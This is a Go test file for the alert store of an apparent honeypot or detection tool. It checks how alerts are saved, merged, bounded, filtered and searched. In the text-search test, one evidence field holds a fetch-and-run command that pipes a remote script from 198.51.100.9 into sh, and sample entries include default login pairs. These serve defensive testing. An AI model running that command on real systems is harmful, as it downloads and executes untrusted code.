package statetest

import (
	"context"
	"errors"
	"fmt"
	"math"
	"slices"
	"strings"
	"time"

	"honeyguide"
	"honeyguide/internal/state"
)

// alertInsert: a new row gets what it lacks and is found by every name.
func alertInsert(b *bench) {
	a := alert("k1")
	b.up(func(ctx context.Context, tx state.Tx) error {
		created, err := tx.Alerts().Save(ctx, &a)
		if !created {
			b.Error("not created")
		}
		return err
	})
	if a.ID == "" || a.Short != "A-1" || a.Status != honeyguide.AlertNew || !a.CreatedAt.Equal(start) {
		b.Errorf("stored as %q %q %q %v", a.ID, a.Short, a.Status, a.CreatedAt)
	}
	b.see(func(ctx context.Context, tx state.Tx) error {
		for _, id := range []string{a.ID, "A-1", "a-1"} {
			got, err := tx.Alerts().Get(ctx, id)
			if err != nil {
				return fmt.Errorf("get %q: %w", id, err)
			}
			b.same("get "+id, got, a)
		}
		for _, id := range []string{"", "A-2", "A-", "A-0", "A-01", "A-+1", "A-1 ", "A-99999999999999999999", "I-1", "x", strings.Repeat("x", 5000), "\x00", "\xff"} {
			_, err := tx.Alerts().Get(ctx, id)
			b.code(fmt.Sprintf("get %.20q", id), err, honeyguide.CodeNotFound)
		}
		return nil
	})
	// An ID that is taken does not stop what is new.
	c := alert("k2")
	c.ID = a.ID
	c = b.saveAlerts(c)[0]
	if c.ID == a.ID || c.ID == "" || c.Short != "A-2" {
		b.Errorf("second alert with a taken id: %q %q", c.ID, c.Short)
	}
	// Nothing in common, nothing merged.
	for _, x := range b.saveAlerts(alert(""), alert("")) {
		if x.Count != 3 {
			b.Errorf("alerts without a key were merged: count %d", x.Count)
		}
	}
	var zero honeyguide.Alert
	z := b.saveAlerts(zero)[0]
	if z.Reasons == nil || z.Attacks == nil || z.EventIDs == nil || z.Evidence == nil {
		b.Error("a list of a stored alert is nil")
	}
}

// alertSaveAll: SaveAll leaves what Save for each would leave.
func alertSaveAll(b *bench) {
	b.saveAlerts(alert("old"), alert("older"))
	list := []honeyguide.Alert{alert("new"), alert(""), alert("older"), alert("new"), alert("old"), alert(""), alert("old")}
	list[2].Severity = honeyguide.SeverityCritical
	list[6].Incident = "inc"
	var created []bool
	b.up(func(ctx context.Context, tx state.Tx) (err error) {
		again := slices.Clone(list) // the function may run more than once
		if created, err = tx.Alerts().SaveAll(ctx, again); err != nil {
			return err
		}
		list = again
		return nil
	})
	if want := []bool{true, true, false, false, false, true, false}; !slices.Equal(created, want) {
		b.Errorf("created %v, want %v", created, want)
	}
	b.see(func(ctx context.Context, tx state.Tx) error {
		for i, want := range []struct {
			short string
			count int64
		}{{"A-3", 6}, {"A-4", 3}, {"A-2", 6}, {"A-3", 6}, {"A-1", 9}, {"A-5", 3}, {"A-1", 9}} {
			got, err := tx.Alerts().Get(ctx, list[i].ID)
			if err != nil {
				return err
			}
			if got.Short != want.short || got.Count != want.count {
				b.Errorf("alert %d: %s with %d events, want %s with %d", i, got.Short, got.Count, want.short, want.count)
			}
		}
		got, _, err := tx.Alerts().List(ctx, state.AlertQuery{Severity: honeyguide.SeverityCritical, Incident: ""})
		if err != nil || len(got) != 1 || got[0].ID != list[2].ID {
			b.Errorf("critical ones: %v, %v; want the one that became so", got, err)
		}
		got, _, err = tx.Alerts().List(ctx, state.AlertQuery{Incident: "inc"})
		if err != nil || len(got) != 1 || got[0].ID != list[4].ID {
			b.Errorf("those of the incident: %v, %v; want the one that joined it", got, err)
		}
		return nil
	})
}

// alertMerge: every rule of merging.
func alertMerge(b *bench) {
	first := b.saveAlerts(alert("k"))[0]
	b.clock.step(time.Minute)
	add := alert("k")
	add.ID, add.Title, add.RuleID, add.Status = "other", "Other title", "other_rule", honeyguide.AlertClosed
	add.Time, add.LastAt, add.Count = start.Add(-time.Hour), start.Add(time.Hour), 5
	add.Severity, add.Score, add.Reasons = honeyguide.SeverityHigh, 70, []honeyguide.Reason{{Feature: "more", Weight: 70, Text: "More."}}
	add.EventIDs = []string{"e2", "e3"}
	add.Evidence = []honeyguide.Evidence{{EventID: "e1", Time: start, Text: "root:toor"}, {EventID: "e3", Time: start, Text: "admin:admin"}}
	add.Attacks = []honeyguide.Technique{{ID: "T1110.001"}, {ID: "T1059.004"}}
	add.Observed = []honeyguide.Observable{{Name: "again", Type: "ip", Value: "203.0.113.7"}, {Name: "user", Type: "user", Value: "root"}}
	add.Incident, add.Attacker, add.Src = "inc", "attacker:203.0.113.7", addr("198.51.100.9")
	want := first
	want.Time, want.LastAt, want.Count, want.Severity, want.Score, want.Reasons = add.Time, add.LastAt, 8, add.Severity, 70, add.Reasons
	want.Title = add.Title // the worst claim names the alert
	want.EventIDs = []string{"e1", "e2", "e3"}
	want.Evidence = []honeyguide.Evidence{first.Evidence[0], add.Evidence[1]}
	want.Attacks = []honeyguide.Technique{first.Attacks[0], {ID: "T1059.004"}}
	want.Observed = []honeyguide.Observable{first.Observed[0], add.Observed[1]}
	want.Incident, want.Attacker = "inc", add.Attacker

	got := b.saveAlerts(add)[0]
	b.same("what Save leaves", got, want)
	// Less severe, lower score, older: the stored values stay.
	low := alert("k")
	low.Title = "Weaker title"
	low.Severity, low.Score, low.Count, low.LastAt, low.Incident = honeyguide.SeverityLow, 1, 1, start, "later"
	want.Count = 9
	b.same("after a weaker one", b.saveAlerts(low)[0], want)
	b.see(func(ctx context.Context, tx state.Tx) error {
		got, err := tx.Alerts().Get(ctx, first.ID)
		b.same("what is stored", got, want)
		_, err2 := tx.Alerts().Get(ctx, "A-2")
		b.code("a second alert", err2, honeyguide.CodeNotFound)
		// The filters follow the merge.
		for name, q := range map[string]state.AlertQuery{
			"technique": {Technique: "t1059"}, "severity": {Severity: honeyguide.SeverityHigh}, "incident": {Incident: "inc"},
			"attacker": {Attacker: add.Attacker}, "words": {Text: "admin:admin"},
		} {
			list, _, err := tx.Alerts().List(ctx, q)
			if err != nil || len(list) != 1 {
				b.Errorf("by %s: %d alerts, %v", name, len(list), err)
			}
		}
		return err
	})
}

// alertBounds: lists stop at MaxEvidence with the oldest kept; counts do not run over.
func alertBounds(b *bench) {
	const n = honeyguide.MaxEvidence
	long := alert("k")
	long.EventIDs, long.Evidence, long.Attacks, long.Observed, long.Reasons = nil, nil, nil, nil, nil
	for i := range 2 * n {
		id := fmt.Sprintf("e%03d", i)
		long.EventIDs = append(long.EventIDs, id, id)
		long.Evidence = append(long.Evidence, honeyguide.Evidence{EventID: id, Text: strings.Repeat("é", state.MaxLine)})
		long.Attacks = append(long.Attacks, honeyguide.Technique{ID: "T1" + id})
		long.Observed = append(long.Observed, honeyguide.Observable{Type: "x", Value: id})
		long.Reasons = append(long.Reasons, honeyguide.Reason{Feature: id, Weight: math.Inf(1)})
	}
	long.Title = strings.Repeat("t", 1<<20)
	long.Score, long.Severity, long.Count = math.NaN(), 200, math.MaxInt64
	a := b.saveAlerts(long)[0]
	b.same("lengths", []int{len(a.EventIDs), len(a.Evidence), len(a.Attacks), len(a.Observed), len(a.Reasons)}, []int{n, n, n, n, n})
	b.same("title", len(a.Title), state.MaxTitle)
	b.same("line", a.Evidence[0].Text, strings.Repeat("é", state.MaxLine/2))
	b.same("score", a.Score, 0.0)
	b.same("severity", a.Severity, honeyguide.SeverityUnknown)
	if a.EventIDs[0] != "e000" || a.EventIDs[n-1] != fmt.Sprintf("e%03d", n-1) {
		b.Errorf("kept %s..%s, want the oldest", a.EventIDs[0], a.EventIDs[n-1])
	}
	more := alert("k")
	more.EventIDs = []string{"new"}
	m := b.saveAlerts(more)[0]
	if m.Count != math.MaxInt64 || len(m.EventIDs) != n || slices.Contains(m.EventIDs, "new") {
		b.Errorf("after one more: count %d, %d event ids", m.Count, len(m.EventIDs))
	}
	// Keys longer than the bound stay different.
	key := strings.Repeat("k", 10*state.MaxKey)
	two := b.saveAlerts(alert(key+"1"), alert(key+"2"), alert(key+"1"))
	if two[0].ID == two[1].ID || two[0].ID != two[2].ID {
		b.Error("long keys are mixed up")
	}
}

// alertStatus: only an open alert takes more.
func alertStatus(b *bench) {
	for status, open := range map[honeyguide.AlertStatus]bool{
		honeyguide.AlertNew: true, honeyguide.AlertAcknowledged: true, honeyguide.AlertEscalated: true,
		honeyguide.AlertSuppressed: false, honeyguide.AlertClosed: false,
	} {
		key := "status " + string(status)
		a := b.saveAlerts(alert(key))[0]
		a.Status = status
		b.up(func(ctx context.Context, tx state.Tx) error { return tx.Alerts().Put(ctx, &a) })
		again := alert(key)
		b.up(func(ctx context.Context, tx state.Tx) error {
			created, err := tx.Alerts().Save(ctx, &again)
			b.same(key+": created", created, !open)
			return err
		})
		if (again.ID == a.ID) != open || open && again.Status != status {
			b.Errorf("%s: saved into %s (%s)", key, again.Short, again.Status)
		}
	}
}

// alertPut: a decision replaces the row and nothing else moves.
func alertPut(b *bench) {
	saved := b.saveAlerts(alert("k"), alert("other"))
	a := saved[0]
	a.Status, a.Title, a.Severity, a.Score, a.Incident = honeyguide.AlertClosed, "Decided", honeyguide.SeverityLow, 3, "inc"
	a.Attacks, a.Short, a.CreatedAt, a.Evidence = []honeyguide.Technique{{ID: "T9999"}}, "A-77", start.Add(time.Hour), nil
	want := a
	want.Short, want.CreatedAt, want.Evidence = saved[0].Short, saved[0].CreatedAt, []honeyguide.Evidence{}
	b.up(func(ctx context.Context, tx state.Tx) error { return tx.Alerts().Put(ctx, &a) })
	b.same("what Put leaves", a, want)
	b.see(func(ctx context.Context, tx state.Tx) error {
		got, err := tx.Alerts().Get(ctx, want.ID)
		b.same("what is stored", got, want)
		for name, q := range map[string]state.AlertQuery{
			"old technique": {Technique: "T1110", Incident: "inc"}, "old words": {Text: "toor", Incident: "inc"},
			"old title":  {Text: "brute against k", Incident: "inc"},
			"old status": {Status: []honeyguide.AlertStatus{honeyguide.AlertNew}, Incident: "inc"},
		} {
			list, _, err := tx.Alerts().List(ctx, q)
			if err != nil || len(list) != 0 {
				b.Errorf("still found by %s: %v", name, err)
			}
		}
		return err
	})
	b.saveAlerts(alert("k")) // a new one, as the first is closed
	a.Status = honeyguide.AlertNew
	err := b.Update(b.Context(), func(tx state.Tx) error { return tx.Alerts().Put(b.Context(), &a) })
	b.code("reopen beside an open one", err, honeyguide.CodeConflict)
	err = b.Update(b.Context(), func(tx state.Tx) error {
		return tx.Alerts().Put(b.Context(), &honeyguide.Alert{ID: "nobody"})
	})
	b.code("put what is not there", err, honeyguide.CodeNotFound)
	b.up(func(ctx context.Context, tx state.Tx) error { // a refused Put does not spoil the transaction
		err := tx.Alerts().Put(ctx, &a)
		b.code("in a longer transaction", err, honeyguide.CodeConflict)
		return tx.Meta().Put(ctx, "x", "1")
	})
}

// mixed returns alerts that differ in everything a filter looks at.
func mixed(b *bench, n int) []honeyguide.Alert {
	statuses := []honeyguide.AlertStatus{
		honeyguide.AlertNew, honeyguide.AlertAcknowledged, honeyguide.AlertEscalated, honeyguide.AlertSuppressed, honeyguide.AlertClosed,
	}
	list := make([]honeyguide.Alert, n)
	for i := range list {
		a := alert(fmt.Sprint("mixed", i))
		a.Severity = honeyguide.Severity(i % 6)
		a.Status = statuses[i%5]
		a.RuleID, a.Detector = fmt.Sprint("rule", i%4), []string{"behaviour", "token"}[i%2]
		a.Src = addr(fmt.Sprintf("203.0.113.%d", i%7))
		a.Attacks = []honeyguide.Technique{{ID: []string{"T1110.001", "T1110", "T1059.004", "T1105"}[i%4]}}
		a.Incident, a.Session, a.Attacker = fmt.Sprint("inc", i%3), fmt.Sprint("ses", i%11), fmt.Sprint("attacker", i%5)
		if i%9 == 0 {
			a.Incident, a.Session, a.Attacker, a.Src = "", "", "", honeyguide.Endpoint{}
		}
		a.CreatedAt = start.Add(time.Duration(i/3) * time.Second) // three at a time: ids decide
		list[i] = a
	}
	list = b.saveAlerts(list...)
	slices.SortFunc(list, func(x, y honeyguide.Alert) int {
		return cmpDesc(x.CreatedAt, y.CreatedAt, x.ID, y.ID)
	})
	return list
}

func cmpDesc(t, u time.Time, a, c string) int {
	if n := u.Compare(t); n != 0 {
		return n
	}
	return strings.Compare(c, a)
}

// alertList: every filter alone and some together give what a plain loop gives.
func alertList(b *bench) {
	all := mixed(b, 300)
	open := []honeyguide.AlertStatus{honeyguide.AlertNew, honeyguide.AlertAcknowledged, honeyguide.AlertEscalated}
	for name, c := range map[string]struct {
		q    state.AlertQuery
		want func(a *honeyguide.Alert) bool
	}{
		"all":           {state.AlertQuery{}, func(*honeyguide.Alert) bool { return true }},
		"low":           {state.AlertQuery{Severity: honeyguide.SeverityLow}, func(a *honeyguide.Alert) bool { return a.Severity >= honeyguide.SeverityLow }},
		"high":          {state.AlertQuery{Severity: honeyguide.SeverityHigh}, func(a *honeyguide.Alert) bool { return a.Severity >= honeyguide.SeverityHigh }},
		"critical":      {state.AlertQuery{Severity: honeyguide.SeverityCritical}, func(a *honeyguide.Alert) bool { return a.Severity >= honeyguide.SeverityCritical }},
		"closed":        {state.AlertQuery{Status: []honeyguide.AlertStatus{honeyguide.AlertClosed}}, func(a *honeyguide.Alert) bool { return a.Status == honeyguide.AlertClosed }},
		"open":          {state.AlertQuery{Status: open}, func(a *honeyguide.Alert) bool { return state.OpenAlert(a.Status) }},
		"open twice":    {state.AlertQuery{Status: append(open, open...)}, func(a *honeyguide.Alert) bool { return state.OpenAlert(a.Status) }},
		"no status":     {state.AlertQuery{Status: []honeyguide.AlertStatus{"nonsense"}}, func(*honeyguide.Alert) bool { return false }},
		"source":        {state.AlertQuery{Src: "203.0.113.3"}, func(a *honeyguide.Alert) bool { return state.Addr(a.Src) == "203.0.113.3" }},
		"mapped source": {state.AlertQuery{Src: " ::ffff:203.0.113.3"}, func(a *honeyguide.Alert) bool { return state.Addr(a.Src) == "203.0.113.3" }},
		"technique":     {state.AlertQuery{Technique: "T1110"}, func(a *honeyguide.Alert) bool { return strings.HasPrefix(a.Attacks[0].ID, "T1110") }},
		"sub-technique": {state.AlertQuery{Technique: "t1110.001"}, func(a *honeyguide.Alert) bool { return a.Attacks[0].ID == "T1110.001" }},
		"rule":          {state.AlertQuery{Rule: "rule2"}, func(a *honeyguide.Alert) bool { return a.RuleID == "rule2" }},
		"detector":      {state.AlertQuery{Detector: "token"}, func(a *honeyguide.Alert) bool { return a.Detector == "token" }},
		"incident":      {state.AlertQuery{Incident: "inc1"}, func(a *honeyguide.Alert) bool { return a.Incident == "inc1" }},
		"session":       {state.AlertQuery{Session: "ses4"}, func(a *honeyguide.Alert) bool { return a.Session == "ses4" }},
		"attacker":      {state.AlertQuery{Attacker: "attacker2"}, func(a *honeyguide.Alert) bool { return a.Attacker == "attacker2" }},
		"from":          {state.AlertQuery{From: start.Add(50 * time.Second)}, func(a *honeyguide.Alert) bool { return !a.CreatedAt.Before(start.Add(50 * time.Second)) }},
		"to":            {state.AlertQuery{To: start.Add(50 * time.Second)}, func(a *honeyguide.Alert) bool { return a.CreatedAt.Before(start.Add(50 * time.Second)) }},
		"words":         {state.AlertQuery{Text: "MIXED42 brute"}, func(a *honeyguide.Alert) bool { return a.DedupeKey == "mixed42" }},
		"together": {
			state.AlertQuery{Status: open, Severity: honeyguide.SeverityMedium, Technique: "T1110", Text: "brute", To: start.Add(80 * time.Second)},
			func(a *honeyguide.Alert) bool {
				return state.OpenAlert(a.Status) && a.Severity >= honeyguide.SeverityMedium && strings.HasPrefix(a.Attacks[0].ID, "T1110") &&
					a.CreatedAt.Before(start.Add(80*time.Second))
			},
		},
	} {
		want, counts := []honeyguide.Alert{}, map[honeyguide.Severity]int64{}
		for _, a := range all {
			if c.want(&a) {
				want = append(want, a)
				counts[a.Severity]++
			}
		}
		b.see(func(ctx context.Context, tx state.Tx) error {
			for _, limit := range []int{0, 1, 7} {
				q := c.q
				got := pages(b, limit, func(p state.Page) ([]honeyguide.Alert, string, error) {
					q.Page = p
					return tx.Alerts().List(ctx, q)
				})
				b.same(fmt.Sprintf("%s, pages of %d", name, limit), got, want)
			}
			got, err := tx.Alerts().Counts(ctx, c.q)
			b.same(name+", counts", got, counts)
			return err
		})
	}
}

// alertText: what a user types is words, never a language.
func alertText(b *bench) {
	a := alert("k")
	a.Title = `Download by "wget" from über.example OR NEAR`
	a.Evidence = []honeyguide.Evidence{{EventID: "e", Text: `cd /tmp; wget http://198.51.100.9/x.sh -O- | sh; echo 'it''s'`}}
	b.saveAlerts(a)
	for text, want := range map[string]bool{
		"download": true, "DOWNLOAD": true, "down": true, "own": false, "download wget": true, "wget download": true, "down wget": false,
		`"wget"`: true, `"`: false, `""`: false, `"wget" "`: true, "'": false, "it's": true, "it''s": true,
		"über": true, "uber": true, "198.51.100.9": true, "198.51.100": true, "198.51.100.8": false, "/tmp": true, "x.sh": true,
		"OR": true, "wget OR nothing": false, "NOT wget": false, "NEAR": true, "AND": false, "wget AND": false, "wget*": true, "^wget": true, "title:wget": false,
		"title : download": false, "(wget": true, "wget)": true, "{title body}: wget": false, "-wget": true, "+": false, "*": false, ";--": false,
		"": true, "   \t\n": true, "\x00": false, "wget\x00": true, "\xff": false, "203.0.113.7": true, "T1110.001": true, "brute_force": true,
		"𝟙": false, "\u0300": false, strings.Repeat("a", 10000): false,
	} {
		b.see(func(ctx context.Context, tx state.Tx) error {
			list, _, err := tx.Alerts().List(ctx, state.AlertQuery{Text: text})
			n, err2 := tx.Alerts().Counts(ctx, state.AlertQuery{Text: text})
			if err := errors.Join(err, err2); err != nil {
				b.Errorf("%.40q: %v", text, err)
			}
			if (len(list) == 1) != want || (len(n) == 1) != want {
				b.Errorf("%.40q: found %v, counted %v, want %v", text, len(list) == 1, len(n) == 1, want)
			}
			return nil
		})
	}
	err := b.View(b.Context(), func(tx state.Tx) error {
		_, _, err := tx.Alerts().List(b.Context(), state.AlertQuery{Text: strings.Repeat("a ", state.MaxWords+1)})
		return err
	})
	b.code("too many words", err, honeyguide.CodeInvalid)
}
